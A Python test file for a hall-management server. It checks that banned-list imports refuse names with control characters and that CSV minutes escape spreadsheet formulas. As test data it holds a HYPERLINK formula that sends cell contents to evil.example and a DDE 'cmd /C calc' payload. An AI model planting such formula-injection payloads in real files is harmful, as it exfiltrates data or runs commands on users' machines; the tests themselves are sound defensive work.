"""Text from outside the hall, through the staff's command channel: a banned-list name holding a
control character is refused naming its line, and a name a spreadsheet would run as a formula
is written as text in every CSV (the minutes' here)."""

from __future__ import annotations

import csv
import io

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from hall_server.hall.admission import DEFAULT_TIMEZONE, AdmissionModule
from hall_server.reports.minutes import build
from hall_server.reports.publish import make_report, render_signed
from tests.web.conftest import ALL_BALLS, FakeBrowser, WebHall, journal_length

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Joan")'


@pytest.fixture
def door(web_hall: WebHall) -> WebHall:
    AdmissionModule(web_hall.core, [])
    return web_hall


def signed_in(hall: WebHall, name: str) -> FakeBrowser:
    browser = FakeBrowser(hall.site)
    assert browser.sign_in(name).status == 200
    return browser


@pytest.mark.req("R75.1-3")
@pytest.mark.parametrize("char, shown", [("\x00", "U+0000"), ("\x1b", "U+001B"), ("\u202e", "U+202E"),
                                         ("\u2028", "U+2028")])
def test_N20_a_banned_list_name_with_a_control_character_is_refused_naming_the_line(door: WebHall, char: str,
                                                                                   shown: str) -> None:
    admin = signed_in(door, "admin")
    before = journal_length(door)
    content = f"document,name,until\nB1,Joan Example,\nB2,Maria{char}[2J Ferrer,2026-12-31\n"
    answer = admin.command("import_banned_list", {"content": content, "source": "craj.csv"}).json()
    assert not answer["ok"]
    assert answer["error"]["message"] == (
        f"banned list, line 3: the name of document B2 holds the control character {shown}; a name is printable "
        "text; nothing was imported")
    assert journal_length(door) == before


def test_N20_a_formula_typed_or_imported_is_text_in_the_csv_the_hall_writes(door: WebHall) -> None:
    admin, rosa = signed_in(door, "admin"), signed_in(door, "rosa")
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    imported = admin.command("import_banned_list", {"content": f"document,name,until\nB1,{quoted},\n",
                                                    "source": "craj.csv"}, "a1").json()
    assert imported["ok"]  # kept as the regulator wrote it: the CSVs make it harmless
    assert admin.command("run_verification", {"date": "2026-11-29"}, "a2").json()["ok"]
    assert rosa.command("count_balls", {"stage": "opening", "balls_present": ALL_BALLS,
                                        "witnesses": ["Maria Public"]}, "r0").json()["ok"]
    assert rosa.command("sign_session_opening", {}, "r1").json()["ok"]
    assert admin.command("sign_session_opening", {}, "a3").json()["ok"]
    assert rosa.command("record_complaint", {"complainant": FORMULA, "text": "+cmd|' /C calc'!A0"}, "r2").json()["ok"]
    report = make_report(build(door.journal.records()), "session", "1", "Test hall", DEFAULT_TIMEZONE)
    data = render_signed(report, "csv", Ed25519PrivateKey.generate()).data.decode("utf-8")
    cells = [row[3] for row in csv.reader(io.StringIO(data))]
    assert "'" + FORMULA in cells and "'+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), "a cell a spreadsheet would run"
